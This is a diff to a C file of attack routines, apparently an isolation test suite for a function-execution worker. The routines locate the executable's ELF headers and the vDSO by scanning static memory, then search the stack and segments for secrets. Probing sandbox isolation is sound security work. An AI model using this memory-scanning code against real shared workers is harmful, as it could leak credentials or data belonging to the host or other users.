@@ -1,8 +1,8 @@
 /* Attacks on the worker's own code and memory, which a function shares.
  *
  * A function is called by the worker's trampoline, and the first instruction there after the call names the statics in which the
- * trampoline keeps its stack pointer; up that stack lies what the kernel told the program when it started, the address
- * of its headers among it, and those tell the rest. */
+ * trampoline keeps its stack pointer. Among the statics after those, the C library's hold the address of the program's headers,
+ * which tell the rest. */
 #include "attack.h"
 
 #define PAGE 4096UL
@@ -15,8 +15,6 @@ struct segment {
 struct harness {
     /* Where the executable lies. */
     u64 base;
-    /* The auxiliary vector. */
-    const u64 *auxiliary;
     /* The trampoline's stack pointer. */
     u64 stack;
 };
@@ -38,13 +36,14 @@ static struct harness find(const u8 *after_call)
         end(FAILED);
     const u64 *statics = (const u64 *)(after_call + 7 + *(const int *)(after_call + 3));
     found.stack = statics[1];
-    /* AT_PHDR (3), followed by AT_PHENT (4), which is 56. */
-    const u64 *word = (const u64 *)found.stack;
-    while (!(word[0] == 3 && word[2] == 4 && word[3] == 56))
-        word++;
-    found.base = word[1] - 64;
-    found.auxiliary = word;
-    return found;
+    /* The headers begin 64 bytes after the file does, below the statics and not far. */
+    for (const u64 *word = statics;; word++) {
+        u64 below = (u64)statics - *word;
+        if ((*word & (PAGE - 1)) == 64 && below < 64 << 20 && *(const u32 *)(*word - 64) == 0x464c457f) {
+            found.base = *word - 64;
+            return found;
+        }
+    }
 }
 
 /* The last mapped segment with these rights (1 execute, 2 write, 4 read). */
@@ -72,14 +71,21 @@ static void fill_statics(const u8 *caller)
     fill((start + 7) & ~7UL, start + writable->bytes);
 }
 
-/* Row 10: the clock without a system call, by the vDSO that the kernel named when the program started. */
+/* Row 10: the clock without a system call, by the vDSO that the C library found when the program started: of all that the statics
+ * hold, the highest address that begins a page. */
 u32 read_vdso(void)
 {
-    const u64 *word = find(CALLER).auxiliary;
-    /* AT_SYSINFO_EHDR, which comes first. */
-    while (word[0] != 33)
-        word -= 2;
-    return *(const u32 *)word[1];
+    u64 base = find(CALLER).base, highest = 0;
+    const struct segment *segments = (const struct segment *)(base + 64);
+    for (u32 i = *(const u16 *)(base + 56); i-- > 0;) {
+        if (segments[i].type != 1 || segments[i].rights != 6)
+            continue;
+        const u64 *word = (const u64 *)((base + segments[i].address + 7) & ~7UL);
+        for (; (u64)(word + 1) <= base + segments[i].address + segments[i].bytes; word++)
+            if ((*word & (PAGE - 1)) == 0 && *word < 1UL << 47 && *word > highest)
+                highest = *word;
+    }
+    return *(const u32 *)highest;
 }
 
 /* Row 33 */
@@ -154,7 +160,10 @@ static u64 search_all(const u8 *caller)
         const struct segment *part = segment(harness.base, rights[i]);
         found += search(harness.base + part->address, harness.base + part->address + part->bytes);
     }
-    return found + search(harness.stack, (u64)harness.auxiliary);
+    /* The stack ends where the statics begin, if the worker has it there. */
+    u64 statics = (harness.base + segment(harness.base, 6)->address) & ~(PAGE - 1);
+    u64 top = statics - harness.stack < 1 << 20 ? statics : (harness.stack | (PAGE - 1)) + 1;
+    return found + search(harness.stack, top);
 }
 
 void search_for_secrets(void)
